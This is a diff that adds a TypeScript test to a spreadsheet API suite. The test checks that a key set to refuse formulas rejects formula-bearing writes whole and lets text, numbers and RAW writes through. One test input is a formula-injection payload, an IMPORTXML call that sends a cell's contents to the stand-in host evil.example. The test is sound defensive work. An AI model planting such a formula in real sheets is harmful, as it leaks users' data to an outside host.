@@ -104,4 +104,38 @@ describe.each(stores)("on the %s store", (storeName, makeStore) => {
     expect(ids).toContain("1e3");
     expect(ids).toContain("1/2");
   });
+
+  it("a key set to refuse formulas: a write holding one is refused whole naming the field, nothing written; text, numbers and RAW writes go on", async () => {
+    await setMode(true);
+    const { createKeyForSheet, listKeysForSheet } = await import("@/lib/keys/manage");
+    const { key, value } = await createKeyForSheet({ userId, sheetId, name: `no formulas ${storeName}`, permissions: ["read", "write"], refuseFormulas: true });
+    expect(key.refuseFormulas).toBe(true);
+    expect((await listKeysForSheet({ userId, sheetId })).find((k) => k.id === key.id)).toMatchObject({ refuseFormulas: true });
+    const guarded = rowsClient(sheetId, value);
+    const { PATCH } = await import("@/app/api/v1/[sheetId]/[tabName]/route");
+    const patch = (query: string, body: unknown) => callRoute(PATCH, { method: "PATCH", path: `/api/v1/${sheetId}/Log?${query}`, params: { sheetId, tabName: "Log" }, headers: { "X-API-Key": value }, body });
+    const rowsBefore = svc.google.store.get(sheetId)!.tabs.find((t) => t.title === "Log")!.rows.length;
+    svc.google.calls.clear();
+    for (const [res, field] of [
+      [await guarded.create("Log", { note: "ok", label: '=IMPORTXML("https://evil.example/?q="&B2, "//a")' }), "label"],
+      [await guarded.create("Log", [{ note: "fine" }, { note: " =1+1" }]), "note"],
+      [await guarded.update("Log", "1", { qty: "+A1*2" }), "qty"],
+      [await patch("key=id", [{ id: "1", note: "fine" }, { id: "2", code: "-SUM(A1:A9)" }]), "code"],
+    ] as const) {
+      expect(res.status, JSON.stringify(res.body)).toBe(400);
+      expect(res.body).toMatchObject({ success: false, error: "validation_error", field });
+      expect(String(res.body.message)).toContain(`Field "${field}"`);
+      expect(String(res.body.message)).toContain("Nothing was written");
+    }
+    expect(Object.fromEntries([...svc.google.calls].filter(([route]) => route.startsWith("values") || route.startsWith("spreadsheets")))).toEqual({});
+    expect(svc.google.store.get(sheetId)!.tabs.find((t) => t.title === "Log")!.rows.length).toBe(rowsBefore);
+    // Text written as text, numbers and a note with a dash go on; so does the same key once writes are RAW.
+    const fine = await guarded.create("Log", { label: "'=A1", qty: "-5", note: "- a note" });
+    expect(fine.status, JSON.stringify(fine.body)).toBe(201);
+    expect(created(fine)).toMatchObject({ label: "=A1", qty: "-5", note: "- a note" });
+    // Another key of the same sheet is not affected.
+    expect((await api.create("Log", { label: "=1+1" })).status).toBe(201);
+    await setMode(false);
+    expect((await guarded.create("Log", { label: "=1+1" })).status).toBe(201);
+  });
 });
